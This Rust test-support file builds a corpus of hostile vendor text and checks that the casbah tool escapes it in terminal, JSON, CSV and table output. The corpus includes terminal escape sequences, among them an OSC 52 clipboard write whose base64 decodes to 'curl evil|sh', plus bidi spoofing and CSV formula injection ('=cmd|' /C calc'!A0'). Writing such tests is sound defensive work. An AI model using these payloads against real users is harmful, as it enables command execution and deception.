//! The hostile-text corpus (DESIGN §3 "Untrusted text", issue 10): every kind of
//! character and sequence a vendor could put in a name to drive, reorder or mislead
//! the reader's terminal or spreadsheet, and the checks every output surface must
//! pass with it: no such character arrives raw, no CSV cell starts a formula, table
//! columns stay aligned.
//!
//! Each entry names its kind, so a failure says which kind leaked. Entries start with
//! their payload, so that a surface that cuts long text short still shows it.
//! `through_the_store` writes it raw into a database, as a casbah from before an escape
//! was known stored it.

use std::fmt::Write;

use casbah::domain::external::{Connection, ConnectionId, ExternalGroup, ExternalGroupId};
use casbah::domain::{
    Activity, ActivityObject, AppKind, GroupStatus, InstanceId, ObjectKind, RemoteGroup,
    RemoteUser, Secret, SkipCounts, UserStatus, UserType, now_micros,
};
use casbah::store::{IngestContext, NewInstance, Store};

/// The person every raw account and activity of `through_the_store` belongs to.
pub const VICTIM: &str = "victim@contoso.com";
/// The Graph connection that holds the raw external groups.
pub const CONNECTION: &str = "hostilekb";

/// One hostile text and what it is.
#[derive(Debug, Clone)]
pub struct Hostile {
    pub kind: String,
    pub text: String,
}

fn entry(kind: impl Into<String>, text: impl Into<String>) -> Hostile {
    Hostile {
        kind: kind.into(),
        text: text.into(),
    }
}

/// The corpus: every C0 control, DEL, every C1 control, terminal escape sequences,
/// bidi embeddings, overrides, isolates and marks, other invisible format characters,
/// line and paragraph separators, and cells a spreadsheet would run as formulas; and
/// wide characters, which are no harm but must not push a table's columns out of line.
pub fn corpus() -> Vec<Hostile> {
    let mut all = Vec::new();
    for code in (0x00..=0x1f).chain([0x7f]).chain(0x80..=0x9f) {
        let c = char::from_u32(code).expect("a char");
        let kind = match code {
            0x00 => "C0 NUL".to_owned(),
            0x07 => "C0 BEL".to_owned(),
            0x08 => "C0 BS".to_owned(),
            0x09 => "C0 TAB".to_owned(),
            0x0a => "C0 LF inside a name".to_owned(),
            0x0d => "C0 CR inside a name".to_owned(),
            0x1b => "C0 ESC".to_owned(),
            0x7f => "DEL".to_owned(),
            0x85 => "C1 NEL".to_owned(),
            0x9b => "C1 CSI".to_owned(),
            0x9d => "C1 OSC".to_owned(),
            c if c < 0x20 => format!("C0 U+{c:04X}"),
            c => format!("C1 U+{c:04X}"),
        };
        all.push(entry(kind, format!("{c}ctl{code:02x}")));
    }
    for (kind, text) in [
        ("ESC CSI colour", "\x1b[31mred\x1b[0m"),
        ("ESC CSI clear screen", "\x1b[2Jclear"),
        ("ESC CSI cursor home", "\x1b[Hhome"),
        ("ESC OSC 2 window title", "\x1b]2;owned\x07title"),
        (
            "ESC OSC 8 hyperlink",
            "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
        ),
        ("ESC OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsfHNo\x07clip"),
        ("ESC DCS", "\x1bP1$tdcs\x1b\\"),
        ("C1 CSI colour", "\u{9b}31mc1red"),
        ("C1 OSC title", "\u{9d}2;owned\u{9c}c1title"),
        ("U+202A left-to-right embedding", "\u{202a}lre"),
        ("U+202B right-to-left embedding", "\u{202b}rle"),
        ("U+202C pop directional formatting", "\u{202c}pdf"),
        ("U+202D left-to-right override", "\u{202d}lro"),
        ("U+202E right-to-left override", "\u{202e}fdp.exe"),
        ("U+2066 left-to-right isolate", "\u{2066}lri"),
        ("U+2067 right-to-left isolate", "\u{2067}rli"),
        ("U+2068 first strong isolate", "\u{2068}fsi"),
        ("U+2069 pop directional isolate", "\u{2069}pdi"),
        ("U+200E left-to-right mark", "\u{200e}lrm"),
        ("U+200F right-to-left mark", "\u{200f}rlm"),
        ("U+061C arabic letter mark", "\u{61c}alm"),
        ("U+200B zero width space", "\u{200b}zwsp"),
        ("U+200C zero width non-joiner", "ad\u{200c}min"),
        ("U+200D zero width joiner", "ad\u{200d}min"),
        ("U+2060 word joiner", "\u{2060}wj"),
        ("U+FEFF byte order mark", "\u{feff}bom"),
        ("U+00AD soft hyphen", "\u{ad}shy"),
        ("U+180E mongolian vowel separator", "\u{180e}mvs"),
        ("U+E0001 language tag", "\u{e0001}tag"),
        ("U+E0041 tag latin A", "\u{e0041}\u{e0042}tags"),
        ("U+FFF9 interlinear annotation anchor", "\u{fff9}iaa"),
        ("U+FFFA interlinear annotation separator", "\u{fffa}ias"),
        ("U+FFFB interlinear annotation terminator", "\u{fffb}iat"),
        ("U+2028 line separator", "\u{2028}lsep"),
        ("U+2029 paragraph separator", "\u{2029}psep"),
        ("CSV formula =", "=cmd|' /C calc'!A0"),
        ("CSV formula +", "+1+cmd"),
        ("CSV formula -", "-1-cmd"),
        ("CSV formula @", "@SUM(1)"),
        ("CSV formula after a tab", "\t=1+tab"),
        ("CSV formula after a CR", "\r=1+cr"),
        // Not hostile, and kept: two columns a character, which a table must allow for.
        ("wide characters", "財務部wide"),
    ] {
        all.push(entry(kind, text));
    }
    all
}

/// Whether `c` must never reach an output raw: a control (C0, DEL, C1), a format
/// character (Cf: bidi, marks, zero-width, tags, annotations), or a line or paragraph
/// separator. Written from the Unicode tables' categories, independently of casbah's
/// own `sanitize`; the only exception is casbah's: a joiner between two non-ASCII
/// characters (an emoji sequence, Persian or Devanagari), which the corpus never has.
pub fn is_raw(c: char) -> bool {
    use unicode_properties::{GeneralCategory, UnicodeGeneralCategory};
    matches!(
        c.general_category(),
        GeneralCategory::Control
            | GeneralCategory::Format
            | GeneralCategory::LineSeparator
            | GeneralCategory::ParagraphSeparator
    )
}

/// The corpus kinds whose text holds `c`, for a failure message.
fn kinds_holding(c: char) -> String {
    let kinds: Vec<String> = corpus()
        .into_iter()
        .filter(|h| h.text.contains(c))
        .map(|h| h.kind)
        .collect();
    if kinds.is_empty() {
        format!("U+{:04X}, in no corpus entry", u32::from(c))
    } else {
        format!("U+{:04X} ({})", u32::from(c), kinds.join(", "))
    }
}

/// Fails with the surface, the kinds that leaked and the text around them when `text`
/// holds a raw character. `line_breaks` allows '\n' (and '\r' before it): the
/// surface's own line ends.
pub fn assert_none_raw(surface: &str, text: &str, line_breaks: bool) {
    let mut leaks = String::new();
    let chars: Vec<char> = text.chars().collect();
    for (i, &c) in chars.iter().enumerate() {
        let own_line_end =
            line_breaks && (c == '\n' || (c == '\r' && chars.get(i + 1) == Some(&'\n')));
        if is_raw(c) && !own_line_end {
            let around: String = chars[i.saturating_sub(12)..(i + 12).min(chars.len())]
                .iter()
                .collect();
            let _ = writeln!(leaks, "  {} in {around:?}", kinds_holding(c));
        }
    }
    // A line break inside a name looks like the surface's own: found by the entry's text.
    for (kind, payload) in raw_payloads() {
        if text.contains(payload.as_str()) {
            let _ = writeln!(leaks, "  {kind}: the whole entry {payload:?}");
        }
    }
    assert!(leaks.is_empty(), "{surface}: raw text arrived:\n{leaks}");
}

/// A JSON document: raw in its bytes, and raw in what its strings decode to. A script
/// that prints a field of it prints the decoded string, so a `\u202e` escape in the
/// JSON is as raw as the character itself (DESIGN §3: vendor text is made safe before
/// it is shown, and a script's output is shown).
pub fn assert_json_none_raw(surface: &str, text: &str) {
    assert_none_raw(surface, text, true);
    let value: serde_json::Value =
        serde_json::from_str(text).unwrap_or_else(|e| panic!("{surface}: not JSON ({e}):\n{text}"));
    let mut strings = Vec::new();
    collect_strings(&value, &mut strings);
    for s in strings {
        assert_none_raw(&format!("{surface} (decoded)"), &s, false);
    }
}

fn collect_strings(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Array(items) => items.iter().for_each(|i| collect_strings(i, out)),
        serde_json::Value::Object(map) => {
            for (k, v) in map {
                out.push(k.clone());
                collect_strings(v, out);
            }
        }
        _ => {}
    }
}

/// A CSV document: parsed as a spreadsheet would, no cell holds a raw character or
/// starts with a formula prefix (OWASP: `=`, `+`, `-`, `@`, tab, CR). Returns the rows.
pub fn assert_csv_safe(surface: &str, text: &str) -> Vec<Vec<String>> {
    assert_none_raw(surface, text, true);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let mut rows = Vec::new();
    for record in reader.records() {
        let record = record.unwrap_or_else(|e| panic!("{surface}: not CSV ({e})"));
        let row: Vec<String> = record.iter().map(str::to_owned).collect();
        for cell in &row {
            assert_none_raw(&format!("{surface} (cell)"), cell, false);
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{surface}: a cell a spreadsheet would run as a formula: {cell:?}"
            );
        }
        rows.push(row);
    }
    rows
}

/// A table printed as columns under a header line (the first that holds `header`): every
/// row keeps its columns where the header puts them, in display columns (a character
/// of no width, or of two, must not move what follows it). A column starts where a
/// header word follows two spaces; each row that reaches a start must have two spaces
/// just before it, and there a cell that starts there or is empty.
pub fn assert_table_aligned(surface: &str, table: &str, header: &str) {
    use unicode_width::UnicodeWidthStr;
    let lines: Vec<&str> = table.lines().collect();
    let at = lines
        .iter()
        .position(|l| l.contains(header))
        .unwrap_or_else(|| panic!("{surface}: no header {header:?} in\n{table}"));
    let head = lines[at];
    let starts: Vec<usize> = head
        .match_indices("  ")
        .filter_map(|(i, _)| {
            let rest = &head[i..];
            let word = rest.trim_start();
            (!word.is_empty()).then(|| head[..i + rest.len() - word.len()].width())
        })
        .collect::<std::collections::BTreeSet<_>>()
        .into_iter()
        .collect();
    assert!(!starts.is_empty(), "{surface}: one column only:\n{head}");
    for row in &lines[at + 1..] {
        // Display columns of the row, one entry per column a character covers.
        let mut cells: Vec<char> = Vec::new();
        for c in row.chars() {
            let w = unicode_width::UnicodeWidthChar::width(c).unwrap_or(0);
            if w > 0 {
                cells.push(c);
                cells.extend(std::iter::repeat_n('\0', w - 1));
            }
        }
        for (i, &start) in starts.iter().enumerate() {
            // A row ends (trimmed) where its next cells are empty.
            if cells.len() <= start - 2 {
                break;
            }
            let moved =
                || panic!("{surface}: a column at display column {start} moved:\n{head}\n{row}");
            if cells[start - 2] != ' ' || cells.get(start - 1) != Some(&' ') || cells.len() <= start
            {
                moved();
            }
            // A cell starts at its column, or is empty to the next one.
            let end = starts
                .get(i + 1)
                .map_or(cells.len(), |next| (next - 2).min(cells.len()));
            if cells[start] == ' ' && cells[start..end].iter().any(|c| *c != ' ') {
                moved();
            }
        }
    }
}

/// Fails unless `out` shows one of the entries as `sanitize` escapes it (its first
/// characters: tables cut long text short), spaces aside (a screen's text has one after
/// each wide character, in the column it covers).
pub fn assert_shows_some(what: &str, out: &str, corpus: &[Hostile]) {
    let escaped = |h: &Hostile| -> String {
        casbah::domain::text::sanitize(&h.text)
            .chars()
            .filter(|c| *c != ' ')
            .take(8)
            .collect()
    };
    let shown = out.replace(' ', "");
    assert!(
        corpus.iter().any(|h| shown.contains(&escaped(h))),
        "{what}: shows no entry escaped:\n{out}"
    );
}

/// Each corpus entry that has a character `is_raw` holds, with its text: what no output
/// and no file may contain if the text was escaped before it was written.
pub fn raw_payloads() -> &'static [(String, String)] {
    static PAYLOADS: std::sync::OnceLock<Vec<(String, String)>> = std::sync::OnceLock::new();
    PAYLOADS.get_or_init(|| {
        corpus()
            .into_iter()
            .filter(|h| h.text.chars().any(is_raw))
            .map(|h| (h.kind, h.text))
            .collect()
    })
}

/// Fails when `bytes` hold any entry's raw text.
pub fn assert_no_raw_payload(surface: &str, bytes: &[u8]) {
    // What is not UTF-8 becomes U+FFFD; an entry's text, which is, stays as it was.
    let text = String::from_utf8_lossy(bytes);
    let found: Vec<&str> = raw_payloads()
        .iter()
        .filter(|(_, p)| text.contains(p.as_str()))
        .map(|(kind, _)| kind.as_str())
        .collect();
    assert!(found.is_empty(), "{surface}: raw text stored: {found:?}");
}

/// A hostile activity: every text field is `text`.
pub fn activity(instance: InstanceId, n: usize, text: &str) -> Activity {
    let t = text.to_owned();
    Activity {
        id: format!("raw-{n}"),
        app: AppKind::Okta,
        instance,
        time: now_micros() - n as i64 * 1_000_000,
        actor: VICTIM.into(),
        actor_name: t.clone(),
        activity_type: t.clone(),
        action_type: t.clone(),
        objects: vec![ActivityObject {
            kind: ObjectKind::File,
            id: t.clone(),
            name: t.clone(),
        }],
        admin: false,
        impersonated: false,
        succeeded: true,
        ip: None,
        address_text: Some(t.clone()),
        country: Some(t.clone()),
        isp: Some(t.clone()),
        device_type: Some(t.clone()),
        user_agent: Some(t.clone()),
        source: t,
        groups: Vec::new(),
        office_app: None,
    }
}

/// The corpus written raw through the store, as an older casbah's database holds it,
/// ten entries to a name where each name costs a transaction: Okta instances so named
/// (with a scan error and a stream note quoting them), imported groups (name,
/// description, sync error), external groups of a Graph connection of the Microsoft 365
/// instance (one is added, unreachable, where there is none); one
/// member of the first group and one activity of `VICTIM` per entry (display name,
/// e-mail; every field); a saved query; last, a group of that instance that Microsoft 365
/// does not have, named with the whole corpus, with `VICTIM` in it. Returns the group ids.
pub fn through_the_store(store: &Store, corpus: &[Hostile]) -> Vec<u64> {
    let now = now_micros();
    let names: Vec<String> = corpus
        .chunks(10)
        .map(|chunk| chunk.iter().map(|h| h.text.as_str()).collect())
        .collect();
    let all = names.concat();
    let contoso = match store
        .instances()
        .expect("instances")
        .into_iter()
        .find(|i| i.app == AppKind::Microsoft365)
    {
        Some(instance) => instance.id,
        None => {
            let new = NewInstance {
                endpoint: Some("http://127.0.0.1:9".into()),
                ..NewInstance::new(AppKind::Microsoft365, "contoso")
                    .with_field("tenant-id", "t")
                    .with_field("client-id", "c")
            };
            let secret = Secret::new("s");
            store
                .add_instance(new, &secret, now)
                .expect("add instance")
                .id
        }
    };
    let connection = ConnectionId::parse(CONNECTION).expect("id");
    store
        .put_external_connection(
            contoso,
            &Connection {
                id: connection.clone(),
                name: names[0].clone(),
                description: Some(all.clone()),
                state: None,
            },
        )
        .expect("connection");
    let mut groups = Vec::new();
    let mut first_instance = None;
    for (n, name) in names.iter().enumerate() {
        let instance = store
            .add_instance(
                NewInstance {
                    // Nothing listens there: nothing here is ever reached.
                    endpoint: Some("http://127.0.0.1:9".into()),
                    ..NewInstance::new(AppKind::Okta, name).with_field("domain", "x.example")
                },
                &Secret::new("s"),
                now,
            )
            .expect("add instance");
        first_instance.get_or_insert(instance.id);
        let users = casbah::store::ScanKind::Users;
        store
            .record_scan(instance.id, users, now, Err(name.clone()))
            .expect("scan error");
        store
            .record_stream(instance.id, "okta-log", now, Ok(Some(name.clone())))
            .expect("stream note");
        let remote = RemoteGroup {
            id: format!("g{n}"),
            display_name: name.clone(),
            description: Some(name.clone()),
            email: None,
            microsoft365: false,
        };
        let group = store
            .create_imported_group(instance.id, &remote, false, now)
            .expect("create group");
        let message = name.clone();
        store
            .set_group_status(group.id, GroupStatus::SyncFailed { message })
            .expect("status");
        groups.push(group.id);
        let external = ExternalGroup {
            id: ExternalGroupId::parse(&format!("x{n}")).expect("id"),
            display_name: Some(name.clone()),
            description: Some(name.clone()),
            members: Vec::new(),
        };
        store
            .put_external_group(contoso, &connection, &external, None)
            .expect("external group");
    }
    let instance = first_instance.expect("an instance");
    let user = |id: String, name: &str, email: &str| RemoteUser {
        id,
        display_name: name.into(),
        email: email.into(),
        status: UserStatus::Active,
        user_type: UserType::Member,
        principal_name: Some(name.into()),
        admin: false,
        org_unit: None,
        on_premises_sync: false,
    };
    let mut users: Vec<RemoteUser> = corpus
        .iter()
        .enumerate()
        .map(|(n, h)| user(format!("m{n}"), &h.text, &format!("{}@contoso.com", h.text)))
        .collect();
    users.push(user("victim".into(), &names[0], VICTIM));
    store.upsert_users(instance, &users).expect("users");
    store
        .sync_membership(groups[0], &users, SkipCounts::default(), now)
        .expect("members");
    let activities = corpus
        .iter()
        .enumerate()
        .map(|(n, h)| activity(instance, n, &h.text))
        .collect();
    let ctx = IngestContext::default();
    store
        .ingest(instance, "okta-log", activities, "c", &ctx)
        .expect("ingest");
    store.save_query(&all, &all).expect("saved query");
    // A group the vendor no longer has, named with the whole corpus: its sync fails.
    let gone = RemoteGroup {
        id: "00000000-0000-0000-0000-000000000000".into(),
        display_name: all,
        description: None,
        email: None,
        microsoft365: false,
    };
    let gone = store
        .create_imported_group(contoso, &gone, false, now)
        .expect("create group");
    let victim = &users[users.len() - 1..];
    store
        .sync_membership(gone.id, victim, SkipCounts::default(), now)
        .expect("members");
    groups.push(gone.id);
    groups.into_iter().map(|g| g.0).collect()
}
